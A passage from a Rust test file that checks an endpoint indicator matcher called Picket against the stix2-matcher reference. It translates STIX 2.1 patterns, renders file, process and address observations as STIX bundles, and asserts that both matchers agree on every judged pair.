            Comparison::Test(t) if is_hash_path(&t.path) => Comparison::Test(Test {
                op: match &t.op {
                    Operator::Eq(l) => Operator::Eq(lower(l)),
                    Operator::In(items) => Operator::In(items.iter().map(lower).collect()),
                    other => other.clone(),
                },
                ..t.clone()
            }),
            Comparison::And(items) => Comparison::And(items.iter().map(comparison).collect::<Option<_>>()?),
            Comparison::Or(items) => Comparison::Or(items.iter().map(comparison).collect::<Option<_>>()?),
            Comparison::Test(t) if is_address_path(&t.path) => {
                let one = |value: &str, subset: bool| -> Option<Comparison> {
                    let v6 = value.contains(':');
                    let network = value.contains('/');
                    if v6 && (network || subset) {
                        return None;
                    }
                    let op = if network {
                        Operator::IsSubset(value.to_owned())
                    } else if subset {
                        Operator::IsSubset(format!("{value}/32"))
                    } else {
                        Operator::Eq(Literal::Str(value.to_owned()))
                    };
                    Some(Comparison::Test(Test {
                        path: t.path.clone(),
                        negated: false,
                        op,
                    }))
                };
                match &t.op {
                    Operator::Eq(Literal::Str(v)) => one(v, false)?,
                    Operator::IsSubset(v) => one(v, true)?,
                    Operator::In(items) => Comparison::Or(
                        items
                            .iter()
                            .map(|l| match l {
                                Literal::Str(v) => one(v, false),
                                _ => None,
                            })
                            .collect::<Option<_>>()?,
                    ),
                    _ => c.clone(),
                }
            }
            Comparison::Test(_) => c.clone(),
        })
    }
    fn observation(o: &Observation) -> Option<Observation> {
        Some(match o {
            Observation::Match(c) => Observation::Match(comparison(c)?),
            Observation::Or(items) => Observation::Or(items.iter().map(observation).collect::<Option<_>>()?),
            other => other.clone(),
        })
    }
    Some(
        Pattern {
            root: observation(&p.root)?,
        }
        .to_string(),
    )
}

/// An observation as STIX 2.1 observed data. Digests are lower-case hex, under every spelling of
/// their algorithm's name that the corpus uses.
fn rendering(i: usize, obs: &Obs) -> Value {
    let uuid = |n: usize| format!("00000000-0000-4000-8000-{:012}", i * 10 + n);
    let file = |f: &FileObs| {
        let mut hashes = serde_json::Map::new();
        for (kind, spellings) in SPELLINGS.iter().enumerate() {
            for s in *spellings {
                hashes.insert((*s).to_owned(), json!(f.hex(kind)));
            }
        }
        json!({"type": "file", "spec_version": "2.1", "id": format!("file--{}", uuid(1)),
               "name": f.name, "size": f.size, "hashes": hashes})
    };
    let objects: Vec<Value> = match obs {
        Obs::File(f) => vec![file(f)],
        Obs::Process { image, cmdline } => vec![
            json!({"type": "process", "spec_version": "2.1", "id": format!("process--{}", uuid(2)),
                   "image_ref": format!("file--{}", uuid(1)), "binary_ref": format!("file--{}", uuid(1)),
                   "name": image.name, "command_line": cmdline}),
            file(image),
        ],
        Obs::Addr(ip) => {
            let t = if ip.is_ipv4() { "ipv4-addr" } else { "ipv6-addr" };
            vec![
                json!({"type": t, "spec_version": "2.1", "id": format!("{t}--{}", uuid(3)), "value": ip.to_string()}),
                json!({"type": "network-traffic", "spec_version": "2.1",
                       "id": format!("network-traffic--{}", uuid(4)),
                       "dst_ref": format!("{t}--{}", uuid(3)), "protocols": ["tcp"]}),
            ]
        }
    };
    let refs: Vec<Value> = objects.iter().map(|o| o["id"].clone()).collect();
    let mut all = vec![json!({
        "type": "observed-data", "spec_version": "2.1", "id": format!("observed-data--{}", uuid(0)),
        "created": "2024-01-01T00:00:00Z", "modified": "2024-01-01T00:00:00Z",
        "first_observed": "2024-01-01T00:00:00Z", "last_observed": "2024-01-01T00:00:00Z",
        "number_observed": 1, "object_refs": refs,
    })];
    all.extend(objects);
    json!({"type": "bundle", "id": format!("bundle--{}", uuid(5)), "objects": all})
}

/// Which patterns the agent's index, loaded with Picket's translations, hits on `obs`.
fn picket_hits(index: &Index, obs: &Obs) -> BTreeSet<u32> {
    let mut hits = Vec::new();
    let file = |f: &FileObs, hits: &mut Vec<_>| {
        let path = PathBuf::from("/data").join(&f.name);
        let meta = FileMeta {
            path: &path,
            name: OsStr::new(&f.name),
            size: f.size,
        };
        index.match_file(&meta, &f.digests(), hits);
    };
    match obs {
        Obs::File(f) => file(f, &mut hits),
        Obs::Process { image, cmdline } => {
            // The image is a file in the observation, and on the endpoint's disk.
            file(image, &mut hits);
            let exe = PathBuf::from("/usr/bin").join(&image.name);
            let digests = image.digests();
            index.match_process(
                &ProcessFacts {
                    name: &image.name,
                    exe: Some(&exe),
                    exe_digests: Some(&digests),
                    cmdline,
                },
                &mut hits,
            );
        }
        Obs::Addr(ip) => index.match_addr(*ip, &mut hits),
    }
    hits.into_iter().map(|h| h.record).collect()
}

const DRIVER: &str = r#"
import json, sys
from stix2matcher.matcher import Pattern

with open(sys.argv[1], encoding="utf-8") as lines:
    observations = json.loads(next(lines))["observations"]
    out = []
    for line in lines:
        text = json.loads(line)["pattern"]
        try:
            pattern = Pattern(text, "2.1")
        except Exception as e:
            out.append("E " + type(e).__name__ + ": " + str(e).replace("\n", " "))
            continue
        bits = []
        for observation in observations:
            try:
                bits.append("1" if pattern.match([observation]) else "0")
            except Exception:
                bits.append("E")
        out.append("".join(bits))
sys.stdout.write("\n".join(out) + "\n")
"#;

/// Runs the reference matcher once over every (pattern, observation) pair: one line per
/// pattern of `1` (match), `0` (no match) or `E` (the matcher failed on that pair) per
/// observation, or `E <message>` if it could not compile the pattern.
fn reference(patterns: &[String], obs: &[Obs]) -> Vec<String> {
    let dir = tempfile::tempdir().unwrap();
    let script = dir.path().join("driver.py");
    fs::write(&script, DRIVER).unwrap();
    let mut input = serde_json::to_string(&json!({
        "observations": obs.iter().enumerate().map(|(i, o)| rendering(i, o)).collect::<Vec<_>>()
    }))
    .unwrap();
    input.push('\n');
    for p in patterns {
        input.push_str(&serde_json::to_string(&json!({ "pattern": p })).unwrap());
        input.push('\n');
    }
    let data = dir.path().join("cases.jsonl");
    fs::write(&data, input).unwrap();
    let out = Command::new(python()).arg(&script).arg(&data).output().unwrap();
    assert!(
        out.status.success(),
        "the reference matcher failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let lines: Vec<String> = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(str::to_owned)
        .collect();
    assert_eq!(lines.len(), patterns.len());
    lines
}

#[test]
fn translation_matches_exactly_when_the_reference_matcher_does() {
    let mut rng = Rng(0x5eed_5717_0000_0001);
    let obs = observations(&mut rng);
    let patterns = corpus(&mut rng, &obs);

    // Translate; keep what Picket supports and the reference can judge.
    let mut supported: Vec<(String, String, Vec<Observable>)> = Vec::new();
    let mut unsupported: BTreeMap<String, usize> = BTreeMap::new();
    let mut not_judgeable = 0;
    for text in &patterns {
        match translate_pattern(text) {
            Ok(observables) => match for_reference(&parse_pattern(text).unwrap()) {
                Some(reference_text) => supported.push((text.clone(), reference_text, observables)),
                None => not_judgeable += 1,
            },
            Err(reason) => *unsupported.entry(reason.to_string()).or_default() += 1,
        }
    }
    // The generated forms are all supported, but for LIKE with '_' (from names with '_') or with
    // nothing but '%' (from the name "a%b.txt"), and the shared bundles' domain, URL, e-mail and
    // certificate patterns.
    for reason in unsupported.keys() {
        assert!(
            reason.contains("'_'")
                || reason.contains("matches every value")
                || reason.contains("is not matchable on an endpoint")
                || reason.contains("other than '%text%'"),
            "a generated pattern was refused: {reason} ({unsupported:?})"
        );
    }
    assert!(supported.len() >= 900, "{} supported patterns", supported.len());

    let mut builder = Builder::new();
    for (k, (text, _, observables)) in supported.iter().enumerate() {
        for observable in observables {
            let ind = Indicator {
                id: format!("indicator--{k}"),
                observable: observable.clone(),
                meta: Meta {
                    confidence: 50,
                    severity: Severity::Medium,
                    tlp: Tlp::Green,
                    valid_until: None,
                    source: "differential".into(),
                },
            };
            Record::from_indicator(&ind).unwrap_or_else(|e| panic!("{text}: {e}"));
            builder.add(k as u32, &ind);
        }
    }
    let index = builder.finish();
    assert!(index.rejected().is_empty(), "{:?}", index.rejected());

    let picket: Vec<BTreeSet<u32>> = obs.iter().map(|o| picket_hits(&index, o)).collect();
    let reference_texts: Vec<String> = supported.iter().map(|(_, r, _)| r.clone()).collect();
    let judged = reference(&reference_texts, &obs);

    let mut mismatches = String::new();
    let mut errors = String::new();
    let (mut positive, mut pairs, mut unjudged) = (0, 0, 0);
    for (k, ((text, reference_text, observables), bits)) in supported.iter().zip(&judged).enumerate() {
        if bits.starts_with("E ") {
            writeln!(errors, "{reference_text}: {bits}").unwrap();
            continue;
        }
        for (i, (bit, o)) in bits.chars().zip(&obs).enumerate() {
            if bit == 'E' {
                // The reference's ISSUBSET knows IPv4 only, and raises on an IPv6 address
                // reached through network-traffic:dst_ref (which may be either family). Those
                // pairs, and only those, go unjudged.
                if !(reference_text.contains("network-traffic:dst_ref.value ISSUBSET")
                    && matches!(o, Obs::Addr(IpAddr::V6(_))))
                {
                    writeln!(errors, "{reference_text}: fails on {o:?}").unwrap();
                }
                unjudged += 1;
                continue;
            }
            let want = bit == '1';
            let got = picket[i].contains(&(k as u32));
            pairs += 1;
            positive += usize::from(want);
            if got != want {
                writeln!(
                    mismatches,
                    "{text}\n  reference text: {reference_text}\n  translation: {observables:?}\n  observation: {o:?}\n  reference {want}, picket {got}"
                )
                .unwrap();
            }
        }
    }
    assert!(errors.is_empty(), "the reference could not judge:\n{errors}");
    assert!(
        mismatches.is_empty(),
        "Picket and stix2-matcher disagree:\n{mismatches}"
    );
    // Not vacuous: a good share of the pairs match, and every pattern kind is exercised.
    assert!(positive >= 1500, "{positive} matching pairs of {pairs}");
    eprintln!(
        "differential: {} patterns ({} supported, {not_judgeable} with IPv6 networks the reference cannot judge, unsupported {unsupported:?}), {} observations, {pairs} pairs compared, {positive} matches, {unjudged} pairs the reference could not judge",
        patterns.len(),
        supported.len(),
        obs.len()
    );
}
